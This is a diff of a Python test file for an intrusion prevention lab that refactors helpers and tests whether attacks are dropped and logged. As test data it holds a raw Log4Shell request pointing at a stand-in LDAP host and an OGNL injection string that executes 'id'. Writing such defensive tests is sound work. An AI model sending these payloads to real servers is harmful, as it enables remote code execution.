@@ -9,12 +9,11 @@ import pathlib
 import re
 import signal
 import socket
-import subprocess
 import time
 
-from harness import CLIENT, ROOT, SERVER, LabTest, policy, rule, services, unittest
+from harness import CLIENT, SERVER, policy, rule, unittest
+from inspecting import INSPECTED, InspectingTest, profile
 
-LOG4SHELL = "/?q=$%7Bjndi:ldap://198.51.100.66/a%7D"
 RAW_LOG4SHELL = b"GET /?q=${jndi:ldap://198.51.100.66/a} HTTP/1.1\r\nHost: server.lab.example\r\n\r\n"
 NUM_PAGES, PAGES_A_CONNECTION = 10_000, 50
 BROWSER = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
@@ -31,46 +30,13 @@ SCANNER = tuple(line.replace(b"|", b"\r\n") for line in (
     b"GET /%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/ HTTP/1.1|"))
 OWN_RULE = ('drop http any any -> any any (msg:"ours: not for guests"; flow:to_server; http.uri; '
             'content:"/forbidden"; sid:1000001; rev:3;)')
-INSPECTED = rule("inspected", "allow", profile="office")
-
-
-def profile(**ips):
-    return [{"name": "office", "ips": ips}]
 
 
 def signature_ids(records):
     return {record["alert"]["signature_id"] for record in records}
 
 
-class Ips(LabTest):
-    wanted_services = (services.web,)
-    lab_options = {"rule_packs": str(ROOT / "rules/ips/starter")}
-
-    def setUp(self):
-        self.apply_inspection()
-        self.seen = len(self.events("alert"))
-
-    def apply_inspection(self, *own_rules, **ips):
-        return self.apply(INSPECTED, profiles=profile(**ips), ips_rules=list(own_rules))
-
-    def alerts(self):
-        return self.events("alert")[self.seen:]
-
-    def cli(self, *arguments, check=True):
-        from sekisho_lab.gateway import binaries
-        command = self.gateway.inside([binaries() / "sekisho", "--run-dir", self.gateway.run_dir, *arguments])
-        return subprocess.run(list(map(str, command)), check=check, capture_output=True, text=True)
-
-    def answer(self, path, address=SERVER.ipv4):
-        """The status that the server answers with; None when nothing comes."""
-        host = f"[{address}]" if ":" in address else address
-        asked = self.lab.run("client", "curl", "-s", "-g", "-m", 3, "-o", "/dev/null", "-w", "%{http_code}",
-                             f"http://{host}{path}", check=False)
-        return int(asked.stdout) or None
-
-    def attack(self, address=SERVER.ipv4):
-        return self.answer(LOG4SHELL, address)
-
+class Ips(InspectingTest):
     def test_an_attack_is_dropped_and_the_event_names_the_rule(self):
         self.assertIsNotNone(self.answer("/"))
         for address in (SERVER.ipv4, SERVER.ipv6):
